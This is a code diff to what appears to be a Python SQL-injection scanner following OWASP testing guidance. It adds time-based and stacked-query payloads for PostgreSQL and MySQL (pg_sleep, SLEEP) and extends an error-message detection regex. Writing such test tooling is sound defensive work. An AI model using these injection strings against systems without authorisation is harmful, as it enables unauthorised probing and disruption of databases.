@@ -1,7 +1,9 @@
 """Text that breaks out of an SQL literal, and the signs that a database has executed it.
 
 The techniques are those of the OWASP Web Security Testing Guide, section 4.7.5: error, boolean,
-union, stacked and time based, for SQLite and PostgreSQL.
+union, stacked and time based, for SQLite, PostgreSQL and MySQL. No payload but those of
+:data:`STYLES` makes a condition true that was false: whatever else a statement does, it does it to
+no more rows.
 """
 
 from __future__ import annotations
@@ -9,6 +11,7 @@ from __future__ import annotations
 import re
 from collections.abc import Sequence
 from dataclasses import dataclass
+from math import inf
 from typing import Literal
 
 from asbuilt import regex
@@ -23,8 +26,11 @@ _WORK = (
     "SELECT count(*) FROM c)"
 )
 """About a second of SQLite's time."""
-SLOW, FAST = 0.7, 0.4
-"""Seconds: what executed text takes at least, and what the same request takes without it."""
+_POSTGRES = "(SELECT 1 FROM pg_sleep(1))"
+_MYSQL = "(SELECT s FROM (SELECT SLEEP(1) AS s) AS x)"
+"""A second, once: not for each row."""
+SLOW = 0.6
+"""Seconds that executed text takes more than other text, at least."""
 
 
 @dataclass(frozen=True, slots=True)
@@ -78,18 +84,30 @@ OTHERS = (
     Payload("delay", "{v}'; SELECT pg_sleep(1); -- "),
 )
 """The most telling ones first."""
+ELSEWHERE = (
+    Payload("delay", f"{{v}}' OR 2={_POSTGRES} OR '1'='2"),
+    Payload("delay", f"{{v}} OR 2={_POSTGRES}"),
+    Payload("delay", f"{{v}},{_POSTGRES}"),
+    Payload("delay", "{v}; SELECT pg_sleep(1); -- "),
+    Payload("delay", f"{{v}}' OR 2={_MYSQL} OR '1'='2"),
+    Payload("delay", f"{{v}} OR 2={_MYSQL}"),
+    Payload("delay", f"{{v}},{_MYSQL}"),
+)
+"""More for a service whose database nobody has named: between quotation marks, where a number
+stands, in a list of columns, and as a statement of its own."""
 KEPT = "{v}'||'kept"
 """Text that comes back shorter when it was part of a statement."""
 
 _MESSAGES = regex.compile(
     r"sqlite|apsw|near \"[^\"]*\": syntax error|unrecognized token|unterminated quoted string|"
-    r"syntax error at or near|SQLSTATE|psycopg|asyncpg|PG::|mysql_|You have an error in your SQL|"
+    r"syntax error at or near|SQLSTATE|psycopg|asyncpg|PG::|mysql_|pymysql|MariaDB|"
+    r"You have an error in your SQL|"
     r"ORA-[0-9]{5}|ODBC|unclosed quotation mark|sqlalchemy|incomplete input|no such column",
     re.I,
 )
 
 
-def count(reply: Reply) -> int:
+def given(reply: Reply) -> int:
     """How much a request was given: the rows of a page, 1 for anything else that succeeds, -1 for a
     refusal."""
     if reply.status is None or reply.status >= 300:
@@ -118,11 +136,11 @@ def given_away(control: Reply, reply: Reply) -> str | None:
 def decided(control: Reply, true: Sequence[Reply], false: Sequence[Reply]) -> str | None:
     """Whether a condition in the text was decided by the database: what is true gives more than
     plain text does, and what is false does not."""
-    plain = count(control)
-    if all(count(reply) > plain for reply in true) and all(
-        count(reply) <= plain for reply in false
+    plain = given(control)
+    if all(given(reply) > plain for reply in true) and all(
+        given(reply) <= plain for reply in false
     ):
-        return f"a true condition gives {count(true[0])}, a false one {count(false[0])}"
+        return f"a true condition gives {given(true[0])}, a false one {given(false[0])}"
     return None
 
 
@@ -131,5 +149,5 @@ def _failed(reply: Reply) -> bool:
 
 
 def seconds(reply: Reply) -> float:
-    """How long an answer took; without one, long."""
-    return reply.answer.seconds if reply.answer else SLOW
+    """How long an answer took; without one, for ever."""
+    return reply.answer.seconds if reply.answer else inf
